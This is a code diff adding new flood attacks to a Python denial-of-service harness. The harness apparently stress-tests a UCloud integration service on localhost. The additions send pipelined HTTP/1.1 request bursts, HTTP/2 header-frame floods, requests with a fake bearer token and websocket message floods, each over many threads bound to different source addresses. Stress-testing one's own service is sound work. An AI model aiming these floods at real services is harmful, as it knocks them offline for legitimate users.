@@ -4,7 +4,9 @@ Reads one line of JSON (attack, host, port, source, seconds, connections), attac
 its connections ended. Nothing that it receives is believed, and what it breaks is its own connections.
 """
 
+import base64
 import collections
+import copy
 import json
 import select
 import socket
@@ -40,6 +42,13 @@ class Target:
 
     def is_over(self):
         return time.monotonic() >= self.end
+
+    def from_another(self, number):
+        """The same, from the address that many after the first."""
+        other = copy.copy(self)
+        first, second, third, last = map(int, self.source.split("."))
+        other.source = f"{first}.{second}.{third + number // 250}.{last + number % 250}"
+        return other
 
     def tcp(self):
         return socket.create_connection((self.host, self.port), timeout=10, source_address=(self.source, 0))
@@ -336,6 +345,97 @@ def long_bodies(target):
     return begun(target, head + b"a" * 262143, True)
 
 
+def refused(target, session):
+    """Requests that are refused at once, one behind the other without a pause, on so many connections, each from an address of its own.
+    `session` sends on one connection until that ends, and says how many requests it has sent."""
+    counts = collections.Counter()
+
+    def work(number):
+        own = target.from_another(number)
+        while not own.is_over():
+            try:
+                counts["sent"] += session(own)
+                counts["ended"] += 1
+            except OSError:
+                counts["refused"] += 1
+                time.sleep(0.01)
+
+    threads = [threading.Thread(target=work, args=(number,)) for number in range(target.connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return {"ends": counts}
+
+
+def pipelined(target, head):
+    """HTTP/1.1: a hundred requests at a time."""
+    requests, sent = head * 100, 0
+    with target.tls(PLAIN) as stream:
+        stream.settimeout(0.5)
+        while not target.is_over():
+            try:
+                stream.sendall(requests)
+                sent += 100
+                if not stream.recv(65536):
+                    break
+            except TimeoutError:
+                pass
+            except OSError:
+                break
+    return sent
+
+
+def refused_h1(target):
+    return pipelined(target, b"GET /x HTTP/1.1\r\nHost: localhost\r\n\r\n")
+
+
+def refused_token(target):
+    """Core's own calls, with a token that is not Core's."""
+    return pipelined(target, b"GET /ucloud/hpc/jobs/retrieveProducts HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer a.b.c\r\n\r\n")
+
+
+def public_pages(target):
+    return pipelined(target, b"GET /ucloud/hpc/connect HTTP/1.1\r\nHost: localhost\r\n\r\n")
+
+
+def refused_h2(target):
+    frames = Frames(target)
+    block = target.head("GET", "/x")
+    stream = 1
+    while frames.is_open and frames.code is None and not target.is_over():
+        batch = b"".join(frame(HeadersFrame, stream + 2 * each, data=block, flags=["END_HEADERS", "END_STREAM"]) for each in range(50))
+        if not frames.send(batch):
+            break
+        stream += 100
+        time.sleep(0.005)
+    frames.stream.close()
+    return stream // 2
+
+
+def refused_ws(target):
+    """Sockets for Core's calls without a token, and messages on them that are no call of anybody's."""
+    key = base64.b64encode(b"0123456789abcdef")
+    user = base64.b64encode(b"alice#1234")
+    sent = 1
+    with target.tls(PLAIN) as stream:
+        stream.sendall(
+            b"GET /ucloud/hpc/files?usernameHint=" + user + b" HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + key + b"\r\n\r\n")
+        stream.settimeout(0.5)
+        text = b'{"call":"files.streamingSearch","streamId":"1","payload":{}}'
+        message = bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text
+        while not target.is_over():
+            try:
+                if not stream.recv(65536):
+                    break
+            except TimeoutError:
+                pass
+            stream.sendall(message * 40)
+            sent += 40
+    return sent
+
+
 ON_FRAMES = {
     "rapid reset": (rapid_reset, None, False),
     "made you reset": (made_you_reset, None, False),
@@ -359,6 +459,11 @@ OTHERS = {
     "long heads": long_heads,
     "head bombs": head_bombs,
     "long bodies": long_bodies,
+    "refusals": lambda target: refused(target, refused_h1),
+    "refusals of HTTP/2": lambda target: refused(target, refused_h2),
+    "refusals on sockets": lambda target: refused(target, refused_ws),
+    "refused tokens": lambda target: refused(target, refused_token),
+    "public pages": lambda target: refused(target, public_pages),
 }
 
 
